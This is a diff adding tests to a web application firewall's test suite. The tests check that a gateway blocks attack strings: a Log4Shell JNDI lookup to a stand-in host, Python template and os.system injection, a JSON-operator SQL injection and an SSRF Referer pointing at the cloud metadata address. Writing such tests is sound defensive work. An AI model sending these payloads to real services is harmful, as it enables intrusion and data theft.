@@ -252,3 +252,23 @@ def test_client_set_headers_reach_inspection(app: RunningNode) -> None:
     for name in ("x-real-ip", "accept", "idempotency-key", "content-disposition"):
         r = app.gateway.get("/pub", headers={name: "${jndi:ldap://evil.example/a}"})
         assert r.status_code == 403, (name, r.text)
+
+
+def test_round3_families_on_a_real_node(app: RunningNode) -> None:
+    """Python injection deep in JSON, an oddly spelt SSRF target in the Referer and a
+    JSON-operator SQL injection are refused; a support ticket quoting shell passes."""
+    deep = {"data": {"settings": [{"template": "{0.__class__.__init__.__globals__}"}]}}
+    assert app.gateway.post("/pub", json=deep).status_code == 403
+    cases = [
+        {"json": {"q": "getattr(__import__('os'),'system')('id')"}},
+        {"json": {"filter": "' OR data->>'role'='admin'--"}},
+        {"json": {"ok": 1}, "headers": {"referer": "http://169.254.169.254/metadata/v1.json"}},
+    ]
+    for case in cases:
+        r = app.gateway.post("/pub", **case)
+        assert r.status_code == 403 and r.json()["code"] == "waf_blocked", case
+    ticket = {"comment": "Why does cat /etc/hosts hang for 30s? Output of "
+                         "`ping -c 4 api.example.com`:\n```\nok\n```"}
+    assert app.gateway.post("/pub", json=ticket).status_code == 200
+    dev = {"referer": "http://localhost:3000/"}
+    assert app.gateway.post("/pub", json={"q": "x"}, headers=dev).status_code == 200
